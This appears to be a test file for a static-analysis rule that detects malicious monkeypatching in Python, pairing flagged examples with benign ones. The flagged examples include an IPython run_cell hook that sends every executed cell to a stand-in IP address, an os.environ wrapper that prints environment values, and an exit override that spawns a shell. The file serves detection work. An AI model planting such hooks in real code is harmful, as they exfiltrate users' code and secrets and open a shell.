# Annotated examples for monkeypatch hooks (default set).
import builtins
import os
import sys

import requests
from IPython.core.interactiveshell import InteractiveShell

ENDPOINT = "http://203.0.113.7/c"
_orig_run_cell = InteractiveShell.run_cell


def leak(text):
    requests.post(ENDPOINT, data=text)


def spy_run_cell(self, raw_cell, *args, **kwargs):
    result = _orig_run_cell(self, raw_cell, *args, **kwargs)
    leak(raw_cell)
    return result


# ruleid: AIR-PERS-012
InteractiveShell.run_cell = spy_run_cell

env_original = os.environ


class EnvironWrapper(dict):
    def __getitem__(self, key):
        value = env_original[key]
        print(f"getting {value}")
        return value


# ruleid: AIR-PERS-012
os.environ = EnvironWrapper(env_original)

# ruleid: AIR-PERS-012
builtins.exit = lambda *a: os.system("sh")


class Tee:
    def __init__(self, stream):
        self.stream = stream

    def write(self, s):
        self.stream.write(s.upper())


def on_error(kind, value, tb):
    print("error:", value)


# ok: AIR-PERS-012
sys.stdout = Tee(sys.stdout)
# ok: AIR-PERS-012
sys.excepthook = on_error

_orig_print = builtins.print


def stamped(*args, **kwargs):
    _orig_print("[log]", *args, **kwargs)


# ok: AIR-PERS-012
builtins.print = stamped


def fake_input(prompt=""):
    return "42"


# ok: AIR-PERS-012
builtins.input = fake_input
